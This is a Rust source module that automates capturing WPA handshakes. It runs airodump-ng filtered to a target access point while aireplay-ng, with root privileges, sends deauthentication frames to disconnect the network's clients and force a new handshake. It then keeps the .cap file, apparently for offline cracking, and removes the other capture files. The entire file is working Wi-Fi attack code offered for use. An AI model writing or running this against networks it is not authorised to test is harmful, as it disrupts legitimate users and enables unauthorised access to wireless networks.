//! WPA handshake capture.
//!
//! Runs a filtered airodump-ng capture while aireplay-ng deauthenticates the
//! target's stations to provoke a fresh handshake. Produces the `-01.cap`
//! artifact; the auxiliary CSV and kismet files are always deleted.

use crate::{
    exec::{argv, DefaultExec, Exec, ExecOpts},
    supervise::Helper,
};
use anyhow::{bail, Context, Result};
use derive_builder::Builder;
use log::{debug, info, warn};
use std::{
    fs,
    path::{Path, PathBuf},
    time::Duration,
};
use tokio::time;

/// Grace period for airodump-ng between SIGTERM and SIGKILL.
const STOP_GRACE: Duration = Duration::from_secs(5);
/// Suffixes airodump appends to the write prefix.
const AUX_SUFFIXES: &[&str] = &["-01.csv", "-01.kismet.csv", "-01.kismet.netxml", "-01.log.csv"];

#[derive(Builder, Clone, Debug)]
#[builder(default, pattern = "owned", setter(into))]
/// Captures handshakes into `.cap` files under the work directory.
pub struct CaptureManager {
    #[builder(private, default = "Box::new(DefaultExec)")]
    exec: Box<dyn Exec>,

    #[builder(default = "\"airodump-ng\".into()")]
    /// Path to the airodump-ng binary.
    airodump_binary: PathBuf,

    #[builder(default = "std::env::temp_dir()")]
    /// Directory receiving the capture artifacts.
    work_dir: PathBuf,
}

impl Default for CaptureManager {
    fn default() -> Self {
        Self {
            exec: Box::new(DefaultExec),
            airodump_binary: "airodump-ng".into(),
            work_dir: std::env::temp_dir(),
        }
    }
}

impl CaptureManager {
    /// Capture a handshake for `bssid` on `channel` via `monitor_iface`,
    /// sending `deauth_count` deauthentication frames to shake stations
    /// loose. Returns the path of the non-empty `.cap` file.
    pub async fn capture_handshake(
        &self,
        monitor_iface: &str,
        bssid: &str,
        channel: &str,
        file_prefix: &str,
        duration: Duration,
        deauth_count: u32,
    ) -> Result<PathBuf> {
        let base = self.work_dir.join(file_prefix);
        info!(
            "Capturing handshake for {} on channel {} via {}",
            bssid, channel, monitor_iface
        );
        cleanup_artifacts(&base, false);

        let mut helper = Helper::spawn(
            "airodump-ng",
            &argv([
                self.airodump_binary.to_string_lossy().as_ref(),
                "--bssid",
                bssid,
                "--channel",
                channel,
                "--write",
                base.to_string_lossy().as_ref(),
                monitor_iface,
            ]),
        )
        .context("spawn airodump-ng")?;

        // Let the capture settle before shaking the stations.
        time::sleep(Duration::from_secs(2)).await;

        info!("Sending {} deauth frames to {}", deauth_count, bssid);
        // A failed deauth burst is non-fatal; the handshake may still appear.
        self.exec
            .run_unchecked(
                &argv([
                    "aireplay-ng",
                    "--deauth",
                    &deauth_count.to_string(),
                    "-a",
                    bssid,
                    monitor_iface,
                ]),
                &ExecOpts::root_unchecked(),
            )
            .await;

        let mut remaining = duration.as_secs();
        while remaining > 0 {
            if !helper.is_running() {
                warn!("airodump-ng terminated prematurely");
                break;
            }
            tokio::select! {
                _ = time::sleep(Duration::from_secs(1)) => {}
                _ = tokio::signal::ctrl_c() => {
                    info!("Capture interrupted, stopping early");
                    break;
                }
            }
            remaining -= 1;
        }
        helper.stop(STOP_GRACE).await;

        let result = find_capture(&base);
        cleanup_artifacts(&base, result.is_ok());
        result
    }
}

/// The `.cap` artifact, iff present and non-empty.
fn find_capture(base: &Path) -> Result<PathBuf> {
    let cap = PathBuf::from(format!("{}-01.cap", base.display()));
    match fs::metadata(&cap) {
        Ok(meta) if meta.len() > 0 => {
            info!("Handshake captured: {}", cap.display());
            Ok(cap)
        }
        Ok(_) => bail!("capture file {} is empty", cap.display()),
        Err(_) => bail!("no capture file at {}", cap.display()),
    }
}

/// Remove airodump artifacts for `base`. The `.cap` survives only when
/// `keep_cap` holds.
fn cleanup_artifacts(base: &Path, keep_cap: bool) {
    let mut doomed: Vec<PathBuf> = AUX_SUFFIXES
        .iter()
        .map(|suffix| PathBuf::from(format!("{}{}", base.display(), suffix)))
        .collect();
    if !keep_cap {
        doomed.push(PathBuf::from(format!("{}-01.cap", base.display())));
    }
    for path in doomed {
        match fs::remove_file(&path) {
            Ok(()) => debug!("Removed capture artifact {}", path.display()),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(e) => warn!("Could not remove {}: {}", path.display(), e),
        }
    }
}
